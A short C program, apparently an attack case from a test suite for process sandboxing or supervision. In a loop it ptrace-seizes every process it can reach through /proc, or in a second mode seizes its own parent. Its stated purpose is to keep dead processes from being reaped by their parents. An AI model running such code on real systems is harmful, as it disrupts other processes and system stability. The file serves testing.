// SPDX-License-Identifier: MIT
/*
 * Traces other processes, never waits for them, and so keeps them from their parents when they are dead. Without an
 * argument: all that there are, for ever. With one: only its parent, which ends at once.
 */
#include "attack.h"

#include <dirent.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <unistd.h>

static void seize_all(void)
{
	DIR *directory = opendir("/proc");
	struct dirent *entry;

	while (directory && (entry = readdir(directory))) {
		pid_t pid = atoi(entry->d_name);

		if (pid > 1 && pid != getpid() && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
			printf("traced\n");
			fflush(stdout);
		}
	}
	if (directory)
		closedir(directory);
}

int main(int argc, char **argv)
{
	(void)argv;
	if (argc > 1) {
		pid_t parent = getpid();

		if (fork() > 0) {
			usleep(200000);
			return 0;
		}
		setsid();
		MUST_BE("the parent is traced", ptrace(PTRACE_SEIZE, parent, 0, 0) == 0);
		for (;;)
			pause();
	}
	for (;;)
		seize_all();
}
